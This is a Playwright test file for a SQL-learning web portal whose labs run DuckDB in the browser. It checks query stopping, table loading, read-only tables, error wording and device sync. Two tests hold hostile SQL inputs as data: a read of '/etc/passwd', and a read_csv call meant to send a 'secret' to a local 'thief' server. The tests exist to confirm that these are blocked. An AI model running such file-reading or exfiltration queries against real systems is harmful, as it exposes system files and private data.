import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { parse } from 'yaml';
import { z } from 'zod';
import { messages as memoryMessages } from '../../app/features/labs/memory/messages';
import { messages as errorMessages } from '../../app/features/labs/errors/messages';
import { messages } from '../../app/features/labs/messages';
import { textOf } from '../../app/i18n/messages';
import { tableNames } from '../../app/sample-company/tables';
import { another, signInAs } from './newcomer';
import { expect, hydrated, test } from './portal';

const t = textOf(messages, 'zh-CN');
const errorText = textOf(errorMessages, 'zh-CN');
const memory = textOf(memoryMessages, 'zh-CN');

async function openLab(page: Page, slug: string): Promise<void> {
  await page.goto(`/labs/${slug}`);
  await hydrated(page);
  await expect(page.getByText(t.engineReady).first()).toBeVisible({ timeout: 60_000 });
}

async function runQuery(page: Page, sql: string): Promise<void> {
  await page.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText(sql);
  await page.keyboard.press('ControlOrMeta+Enter');
}

const output = (page: Page) =>
  page
    .getByRole('region', { name: t.paneOutput })
    .or(page.getByRole('region', { name: t.resultRegion }))
    .last();

/** The tables whose data the page has fetched so far, in the order of the alphabet. */
async function fetchedTables(page: Page): Promise<string[]> {
  const names = await page.evaluate(() => performance.getEntriesByType('resource').map(entry => new URL(entry.name).pathname));
  const tables = names.flatMap(name => /^\/sample\/(.+)-[0-9a-f]{12}\.part$/.exec(name)?.[1] ?? []);
  return [...new Set(tables)].filter(name => name !== 'frame').sort();
}

test.describe('the workbench', () => {
  test.beforeEach(async ({ page }) => {
    test.setTimeout(120_000);
    await signInAs(page, 'learner');
  });

  test('a runaway query can be stopped, the page lives, and the next query works', async ({ page }) => {
    await openLab(page, 'quiet-cities');
    await runQuery(page, 'SELECT count(*) FROM order_items a, order_items b, order_items c WHERE a.quantity + b.quantity > c.quantity');
    const stop = page.getByRole('button', { name: t.stop, exact: true }).first();
    await expect(stop).toBeVisible();
    await stop.click();
    await expect(page.getByText(t.stopped, { exact: false }).first()).toBeVisible({ timeout: 15_000 });
    await runQuery(page, 'SELECT count(*) AS members_in_all FROM members');
    await expect(page.getByText('members_in_all').last()).toBeVisible({ timeout: 30_000 });
    await expect(output(page)).toContainText(/2,?406/);
  });

  test('a lab fetches its own tables; naming another one fetches that, and after a restart all are there without the network', async ({
    page,
  }) => {
    await openLab(page, 'buyers-by-channel');
    const { tables: own } = z
      .object({ tables: z.array(z.string()) })
      .parse(parse(readFileSync('content/labs/buyers-by-channel/lab.yaml', 'utf8')));
    expect(await fetchedTables(page)).toEqual([...own].sort());

    await runQuery(page, 'SELECT count(*) AS lines, sum(quantity) > 0 AS sold FROM sample.main."Order_Items"');
    await expect(output(page)).toContainText('true', { timeout: 15_000 });
    expect(await fetchedTables(page)).toEqual([...own, 'order_items'].sort());

    await runQuery(page, "SELECT min(question) <> '' AS asked FROM query_table('cs_' || 'tickets')");
    await expect(output(page)).toContainText('asked', { timeout: 15_000 });
    await expect(output(page)).toContainText('true');
    expect(await fetchedTables(page)).toEqual([...tableNames].sort());

    const askedAfter: string[] = [];
    page.on('request', request => askedAfter.push(new URL(request.url()).pathname));
    // One call of a function takes long and does not listen.
    await runQuery(page, "SELECT levenshtein(repeat('a', 100000), repeat('b', 100000))");
    await page.getByRole('button', { name: t.stop, exact: true }).first().click();
    await expect(page.getByText(t.stoppedByRestart)).toBeVisible({ timeout: 15_000 });
    await runQuery(page, 'SELECT sum(i.quantity) > 0 AS still_there FROM order_items i JOIN orders USING (order_id)');
    await expect(page.getByText('still_there').last()).toBeVisible({ timeout: 30_000 });
    await expect(output(page)).toContainText('true');
    expect(askedAfter.filter(path => path.startsWith('/sample/'))).toEqual([]);
  });

  test('all fourteen tables can be seen, with columns and types, before any is fetched; they are read-only', async ({ page }) => {
    await page.goto(`/playground?sql=${encodeURIComponent('SHOW TABLES')}`);
    await hydrated(page);
    await expect(page.getByText(t.engineReady).first()).toBeVisible({ timeout: 60_000 });
    await runQuery(page, 'SHOW TABLES');
    for (const table of tableNames) await expect(output(page).getByRole('gridcell', { name: table, exact: true })).toBeVisible();
    await runQuery(page, 'DESCRIBE orders');
    await expect(output(page)).toContainText('DECIMAL(12,2)');
    await runQuery(
      page,
      `SELECT string_agg(DISTINCT table_type) AS kinds, count(DISTINCT table_name) AS fourteen, count(*) > 80 AS columns_too
       FROM information_schema.columns JOIN information_schema.tables t USING (table_catalog, table_schema, table_name)`,
    );
    await expect(output(page)).toContainText('BASE TABLE');
    await expect(output(page).getByRole('gridcell', { name: '14', exact: true })).toBeVisible();
    expect(await fetchedTables(page)).toEqual([]);
    await runQuery(page, 'DELETE FROM orders');
    await page.getByText(errorText.engineWords).click();
    await expect(page.getByText(/attached in read-only mode/).first()).toBeVisible();
  });

  test('the live queries of a lesson fetch what each of them names, into one engine', async ({ page }) => {
    await page.goto('/lessons/come-back');
    await hydrated(page);
    const cells = page.getByRole('group', { name: t.cellLabel });
    for (const index of [0, 1]) {
      const cell = cells.nth(index);
      await cell.scrollIntoViewIfNeeded();
      await cell.getByRole('button', { name: t.run }).click();
      await expect(cell.getByRole('status').first()).toContainText(/[1-9]/, { timeout: 60_000 });
    }
    const fetched = await fetchedTables(page);
    expect(fetched).toEqual(expect.arrayContaining(['orders', 'refunds']));
    expect(fetched, 'what no query of the lesson names').not.toContain('app_events');
    // A spare that was begun beside a slow run is gone soon.
    await expect.poll(() => page.workers().length, { timeout: 30_000 }).toBe(1);
  });

  test('a table that does not arrive is told, and asked for again by the next run', async ({ page, complaints }) => {
    await openLab(page, 'buyers-by-channel');
    await page.route('**/sample/calendar-*.part', route => route.abort());
    await runQuery(page, 'SELECT count(*) AS days FROM calendar WHERE is_workday');
    await expect(page.getByText(t.engineUnavailable)).toBeVisible({ timeout: 15_000 });
    complaints.forgive(/net::ERR_FAILED/);
    await page.unroute('**/sample/calendar-*.part');
    await runQuery(page, 'SELECT count(*) > 400 AS days FROM calendar WHERE is_workday');
    await expect(output(page)).toContainText('true', { timeout: 15_000 });
  });

  test('a mistake is told in plain words, with the name that was meant, and keeps the engine’s own words', async ({ page }) => {
    await openLab(page, 'quiet-cities');
    await runQuery(page, 'SELECT paid_amout FROM orders');
    await expect(page.getByText(errorText.noColumn('paid_amout'))).toBeVisible();
    await expect(page.getByText('把 paid_amout 改成 paid_amount')).toBeVisible();
    await page.getByText(errorText.engineWords).click();
    await expect(page.getByText(/Binder Error/).first()).toBeVisible();
  });

  test('the browser’s engine is the server’s, version for version', async ({ page }) => {
    const { version } = z
      .object({ version: z.string() })
      .parse(JSON.parse(readFileSync('node_modules/@duckdb/node-api/package.json', 'utf8')));
    await openLab(page, 'quiet-cities');
    await runQuery(page, 'SELECT version() AS engine_version');
    await expect(output(page)).toContainText(`v${version.split('-')[0]}`);
  });

  test('two devices never overwrite each other silently: both texts are shown, and the person chooses', async ({
    page,
    browser,
    complaints,
  }) => {
    const { page: phone } = await another(browser, 'zh-CN');
    await signInAs(phone, 'learner');
    complaints.listenTo(phone);
    await openLab(page, 'buyers-by-channel');
    await openLab(phone, 'buyers-by-channel');
    await runQuery(page, "SELECT 'written at the desk' AS mine");
    await expect(page.getByText(/已保存到服务器/)).toBeVisible({ timeout: 15_000 });
    await runQuery(phone, "SELECT 'written on the way' AS mine");
    const choice = phone.getByRole('alert', { name: memory.conflictTitle });
    await expect(choice).toContainText('written at the desk', { timeout: 15_000 });
    await expect(choice).toContainText('written on the way');
    complaints.expect(/status of 409/);
    await choice.getByRole('button', { name: memory.keepMine }).click();
    await expect(phone.getByText(/已保存到服务器/)).toBeVisible({ timeout: 15_000 });
  });

  test('a tab follows what another tab of the same browser writes', async ({ page, context, complaints }) => {
    await openLab(page, 'spend-per-member');
    const other = await context.newPage();
    complaints.listenTo(other);
    await openLab(other, 'spend-per-member');
    await runQuery(page, "SELECT 'first tab' AS mine");
    await expect(other.locator('.cm-content')).toContainText('first tab');
  });

  test('a statement that is no query is refused on the server, and stored first all the same', async ({ page }) => {
    const statements = ['DELETE FROM orders', 'SELECT 1; SELECT 2', '', "SELECT * FROM read_csv('/etc/passwd')", 'PRAGMA database_list'];
    for (const sql of statements) {
      const id = crypto.randomUUID();
      const answer = await page.request.post('/labs/quiet-cities/submissions', { data: { id, sql } });
      const said = await answer.text();
      expect(said, sql).not.toContain('"accepted":true');
      expect(said, sql).not.toContain('root:');
      expect([200, 422], sql).toContain(answer.status());
      if (sql === '') continue;
      const list = await page.request.get('/labs/quiet-cities/submissions');
      expect(await list.text(), `${sql} is stored`).toContain(id);
    }
  });

  test('an endless query on the server ends at the deadline and is told as such', async ({ page }) => {
    const sql = 'SELECT count(*) FROM range(1000000) a, range(1000000) b WHERE a.range + b.range < 0';
    const answer = await page.request.post('/labs/quiet-cities/submissions', { data: { id: crypto.randomUUID(), sql }, timeout: 60_000 });
    expect(await answer.text()).toContain('"kind":"timeout"');
    expect((await page.request.get('/healthz')).ok()).toBe(true);
  });

  test('SQL in a lab cannot send anything to another machine', async ({ page, complaints }) => {
    const heard: string[] = [];
    const thief = createServer((request, response) => {
      heard.push(request.url ?? '');
      response.setHeader('Access-Control-Allow-Origin', '*').end('a\n1\n');
    });
    await new Promise<void>(resolve => thief.listen(0, '127.0.0.1', resolve));
    const address = thief.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    await page.goto('/playground');
    await hydrated(page);
    await expect(page.getByText(t.engineReady).first()).toBeVisible({ timeout: 60_000 });
    await runQuery(page, `SELECT * FROM read_csv('http://127.0.0.1:${port}/steal.csv?secret=42')`);
    await expect(
      page.getByRole('alert').or(page.getByText(errorText.cannotRun)).or(page.getByText(errorText.engineWords)).first(),
    ).toBeVisible({
      timeout: 30_000,
    });
    thief.close();
    expect(heard).toEqual([]);
    complaints.forgive(/Content Security Policy|Failed to load resource|NetworkError|XMLHttpRequest/);
  });
});
